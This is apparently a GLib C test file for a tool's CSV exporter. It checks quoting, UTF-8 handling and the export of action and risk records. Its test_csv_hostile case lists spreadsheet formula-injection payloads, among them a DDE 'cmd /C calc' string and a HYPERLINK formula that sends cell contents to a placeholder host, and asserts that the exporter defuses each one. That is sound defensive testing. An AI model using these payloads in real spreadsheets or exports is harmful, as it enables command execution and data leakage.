#include <string.h>

#include "test-helpers.h"
#include "wm-csv.h"
#include "wm-error.h"
#include "wm-export.h"
#include "wm-sample.h"
#include "wm-store.h"

static char *
row (const char *const *cells,
     int                n_cells)
{
  GString *out = g_string_new (NULL);

  wm_csv_append_row (out, cells, n_cells);
  return g_string_free (out, FALSE);
}

static void
test_csv_plain (void)
{
  const char *cells[] = { "1.1", "Head of SEND (LCC)", "2023-09-30", NULL };
  const char *with_empty[] = { "a", NULL, "", "b" };
  g_autofree char *plain = row (cells, -1);
  g_autofree char *empty = row (with_empty, G_N_ELEMENTS (with_empty));
  g_autofree char *none = row (NULL, 0);

  /* CRLF, as RFC 4180 and Excel have it */
  g_assert_cmpstr (plain, ==, "1.1,Head of SEND (LCC),2023-09-30\r\n");
  /* NULL and "" are both empty cells and keep their place */
  g_assert_cmpstr (empty, ==, "a,,,b\r\n");
  g_assert_cmpstr (none, ==, "\r\n");
}

static void
test_csv_quoting (void)
{
  static const struct { const char *cell, *expected; } cases[] = {
    { "LA, ICB", "\"LA, ICB\"" },
    { "the \"Local Offer\"", "\"the \"\"Local Offer\"\"\"" },
    { "\"", "\"\"\"\"" },
    { "Process map\nPractice guidance", "\"Process map\nPractice guidance\"" },
    { "line\r\nbreak", "\"line\r\nbreak\"" },
    { "  spaces kept  ", "  spaces kept  " },
    { "Children’s — “quoted” £5", "Children’s — “quoted” £5" },
    { "semi;colon", "semi;colon" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *cell = wm_csv_format_cell (cases[i].cell);
      g_assert_cmpstr (cell, ==, cases[i].expected);
    }
}

/* Text a spreadsheet would run as a formula gets an apostrophe; numbers
 * and dates stay numbers and dates. */
static void
test_csv_hostile (void)
{
  static const struct { const char *cell, *expected; } cases[] = {
    { "=1+1", "'=1+1" },
    { "=HYPERLINK(\"http://x.example/?\"&A1,\"Details\")",
      "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Details\"\")\"" },
    { "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
    { "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0" },
    { "-2+3", "'-2+3" },
    { "-", "'-" },
    { "+", "'+" },
    { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
    { "\t=1+1", "'\t=1+1" },
    { "\r=1+1", "\"'\r=1+1\"" },
    { "- first bullet", "'- first bullet" },
    { "+44 116 305 0000", "'+44 116 305 0000" },
    /* not formulas */
    { "-3", "-3" },
    { "-3.5", "-3.5" },
    { "+12", "+12" },
    { "-.5", "-.5" },
    { "0", "0" },
    { "2023-09-30", "2023-09-30" },
    { "31/09/2023", "31/09/2023" },
    { "1 = 1", "1 = 1" },
    { "a@b.example", "a@b.example" },
    { " =1+1", " =1+1" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *cell = wm_csv_format_cell (cases[i].cell);
      g_assert_cmpstr (cell, ==, cases[i].expected);
    }
}

static void
test_csv_invalid_utf8 (void)
{
  /* "caf\xe9": Windows-1252 pasted into a note */
  g_autofree char *cell = wm_csv_format_cell ("caf\xe9, ok");
  g_autofree char *null_cell = wm_csv_format_cell (NULL);

  g_assert_true (g_utf8_validate (cell, -1, NULL));
  g_assert_cmpstr (cell, ==, "\"caf\xef\xbf\xbd, ok\"");
  g_assert_cmpstr (null_cell, ==, "");
}

static void
test_csv_stream (void)
{
  g_autoptr(GOutputStream) stream = g_memory_output_stream_new_resizable ();
  g_autoptr(GError) error = NULL;
  const char *header[] = { "code", "title", NULL };
  const char *cells[] = { "1.1", "=evil(), \"quoted\"", NULL };
  g_autofree char *text = NULL;

  g_assert_true (wm_csv_write_row (stream, header, -1, NULL, &error));
  g_assert_true (wm_csv_write_row (stream, cells, 2, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_output_stream_close (stream, NULL, &error));
  text = g_strndup (g_memory_output_stream_get_data (G_MEMORY_OUTPUT_STREAM (stream)),
                    g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (stream)));
  g_assert_cmpstr (text, ==, "code,title\r\n1.1,\"'=evil(), \"\"quoted\"\"\"\r\n");
}

/* A minimal RFC 4180 reader, to read the export back as a spreadsheet
 * would: rows of cells, quotes undone. */
static GPtrArray *
parse_csv (const char *text)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray *cells = g_ptr_array_new_with_free_func (g_free);
  GString *cell = g_string_new (NULL);
  gboolean quoted = FALSE;

  for (const char *p = text; *p; p++)
    {
      if (quoted)
        {
          if (*p == '"' && p[1] == '"')
            g_string_append_c (cell, *p++);
          else if (*p == '"')
            quoted = FALSE;
          else
            g_string_append_c (cell, *p);
        }
      else if (*p == '"')
        quoted = TRUE;
      else if (*p == ',')
        {
          g_ptr_array_add (cells, g_string_free (g_steal_pointer (&cell), FALSE));
          cell = g_string_new (NULL);
        }
      else if (*p == '\r' && p[1] == '\n')
        {
          p++;
          g_ptr_array_add (cells, g_string_free (g_steal_pointer (&cell), FALSE));
          cell = g_string_new (NULL);
          g_ptr_array_add (rows, g_steal_pointer (&cells));
          cells = g_ptr_array_new_with_free_func (g_free);
        }
      else
        {
          /* a bare LF outside quotes would be a broken row */
          g_assert_cmpint (*p, !=, '\n');
          g_string_append_c (cell, *p);
        }
    }
  g_assert_false (quoted);
  g_assert_cmpuint (cell->len, ==, 0);
  g_assert_cmpuint (cells->len, ==, 0);
  g_string_free (cell, TRUE);
  g_ptr_array_unref (cells);
  return rows;
}

static const char *
cell_of (GPtrArray  *rows,
         guint       row_index,
         const char *column)
{
  GPtrArray *header = rows->pdata[0];
  GPtrArray *cells = rows->pdata[row_index];

  g_assert_cmpuint (cells->len, ==, header->len);
  for (guint i = 0; i < header->len; i++)
    if (g_str_equal (header->pdata[i], column))
      return cells->pdata[i];
  g_assert_not_reached ();
}

static WmStore *
open_sample (char **dir_out)
{
  g_autoptr(GError) error = NULL;
  char *dir = test_dir_new ();
  g_autofree char *path = g_build_filename (dir, "sample.waymark", NULL);
  WmStore *store = wm_store_open (path, WM_STORE_OPEN_CREATE, &error);

  g_assert_no_error (error);
  g_assert_true (wm_sample_load (store, &error));
  g_assert_no_error (error);
  *dir_out = dir;
  return store;
}

static void
test_export_actions (void)
{
  static const char *const codes[] = {
    "1.1", "1.2a", "1.2b", "1.3a", "1.3b", "2.1", "2.2a", "2.2b", "2.3", "2.4", "3.1", "3.2",
    "3.3",
  };
  g_autofree char *dir = NULL;
  WmStore *store = open_sample (&dir);
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(WmRecord) action = NULL;

  g_assert_true (wm_export_csv (store, "actions", out, &error));
  g_assert_no_error (error);
  g_assert_true (g_str_has_prefix (out->str, "priority,code,title,description,lead,agency,"
                                             "start,due,due_text,completed,rating,progress,"
                                             "evidence,impact"));
  rows = parse_csv (out->str);
  g_assert_cmpuint (rows->len, ==, 1 + G_N_ELEMENTS (codes));
  for (guint i = 0; i < G_N_ELEMENTS (codes); i++)
    {
      g_autofree char *priority = g_strndup (codes[i], 1);

      g_assert_cmpstr (cell_of (rows, i + 1, "code"), ==, codes[i]);
      g_assert_cmpstr (cell_of (rows, i + 1, "priority"), ==, priority);
      g_assert_cmpstr (cell_of (rows, i + 1, "lead"), !=, "");
      g_assert_null (strchr (cell_of (rows, i + 1, "lead"), '\n'));
      g_assert_true (g_regex_match_simple ("^20[0-9][0-9]-[01][0-9]-[0-3][0-9]$",
                                           cell_of (rows, i + 1, "due"), 0, 0));
    }
  g_assert_cmpstr (cell_of (rows, 1, "lead"), ==,
                   "Head of Change (TSIL) / SENA Service Manager (LCC); "
                   "Designated Clinical Officer (ICB)");
  g_assert_cmpstr (cell_of (rows, 1, "agency"), ==, "LA; ICB");
  g_assert_cmpstr (cell_of (rows, 1, "due"), ==, "2023-09-30");

  /* a rating is exported as its code, and text round-trips exactly,
   * hostile or not */
  action = wm_store_find_action (store, "2.1", &error);
  g_assert_no_error (error);
  g_assert_true (wm_store_set_action_rating (store, wm_record_get_id (action), "Red",
                                             "=1+1, said \"someone\"\nsecond line", "Test",
                                             &error));
  g_assert_no_error (error);
  g_string_truncate (out, 0);
  g_assert_true (wm_export_csv (store, "actions", out, &error));
  g_clear_pointer (&rows, g_ptr_array_unref);
  rows = parse_csv (out->str);
  g_assert_cmpstr (cell_of (rows, 6, "code"), ==, "2.1");
  g_assert_cmpstr (cell_of (rows, 6, "rating"), ==, "R");
  g_assert_cmpstr (cell_of (rows, 6, "progress"), ==,
                   "'=1+1, said \"someone\"\nsecond line");

  g_object_unref (store);
  test_dir_free (g_steal_pointer (&dir));
}

static void
test_export_risks (void)
{
  g_autofree char *dir = NULL;
  WmStore *store = open_sample (&dir);
  g_autoptr(GString) out = g_string_new ("kept\r\n");
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(WmRecord) risk = NULL;
  g_autoptr(WmRecord) first = NULL;
  g_autoptr(WmRecord) second = NULL;
  g_autofree char *link1 = NULL;
  g_autofree char *link2 = NULL;
  g_autofree char *link3 = NULL;

  /* links come out in the plan's order, once each */
  risk = wm_store_find_risk (store, "RR3", &error);
  first = wm_store_find_action (store, "1.1", &error);
  second = wm_store_find_action (store, "3.2", &error);
  g_assert_no_error (error);
  link1 = wm_store_insert (store, "risk_action", &error, "risk_id", wm_record_get_id (risk),
                           "action_id", wm_record_get_id (second), NULL);
  link2 = wm_store_insert (store, "risk_action", &error, "risk_id", wm_record_get_id (risk),
                           "action_id", wm_record_get_id (first), NULL);
  link3 = wm_store_insert (store, "risk_action", &error, "risk_id", wm_record_get_id (risk),
                           "action_id", "no-such-action", NULL);
  g_assert_no_error (error);

  /* appends: what was in the string stays */
  g_assert_true (wm_export_csv (store, "risks", out, &error));
  g_assert_no_error (error);
  g_assert_true (g_str_has_prefix (out->str, "kept\r\nref,raised,title,description,owner,"
                                             "category,severity_before,likelihood_before,"
                                             "impact_before,mitigation,severity_after,"
                                             "likelihood_after,impact_after,target_score,"
                                             "progress,review_date,status,closed_reason,"
                                             "linked_actions"));
  rows = parse_csv (out->str + strlen ("kept\r\n"));
  g_assert_cmpuint (rows->len, ==, 8);
  for (guint i = 1; i <= 7; i++)
    {
      g_autofree char *ref = g_strdup_printf ("RR%u", i);
      g_assert_cmpstr (cell_of (rows, i, "ref"), ==, ref);
      g_assert_cmpstr (cell_of (rows, i, "description"), !=, "");
      g_assert_cmpstr (cell_of (rows, i, "severity_before"), !=, "");
    }
  g_assert_cmpstr (cell_of (rows, 1, "raised"), ==, "2023-02-06");
  g_assert_cmpstr (cell_of (rows, 1, "severity_before"), ==, "High");
  g_assert_cmpstr (cell_of (rows, 3, "linked_actions"), ==, "1.1; 3.2");
  g_assert_cmpstr (cell_of (rows, 1, "linked_actions"), ==, "");

  g_object_unref (store);
  test_dir_free (g_steal_pointer (&dir));
}

static void
test_export_unknown (void)
{
  g_autofree char *dir = NULL;
  WmStore *store = open_sample (&dir);
  g_autoptr(GString) out = g_string_new ("x");
  g_autoptr(GError) error = NULL;

  g_assert_false (wm_export_csv (store, "kpis", out, &error));
  g_assert_error (error, WM_STORE_ERROR, WM_STORE_ERROR_INVALID);
  g_assert_nonnull (strstr (error->message, "kpis"));
  g_assert_cmpstr (out->str, ==, "x");

  g_object_unref (store);
  test_dir_free (g_steal_pointer (&dir));
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/plain", test_csv_plain);
  g_test_add_func ("/csv/quoting", test_csv_quoting);
  g_test_add_func ("/csv/hostile", test_csv_hostile);
  g_test_add_func ("/csv/invalid-utf8", test_csv_invalid_utf8);
  g_test_add_func ("/csv/stream", test_csv_stream);
  g_test_add_func ("/export/actions", test_export_actions);
  g_test_add_func ("/export/risks", test_export_risks);
  g_test_add_func ("/export/unknown", test_export_unknown);

  return g_test_run ();
}
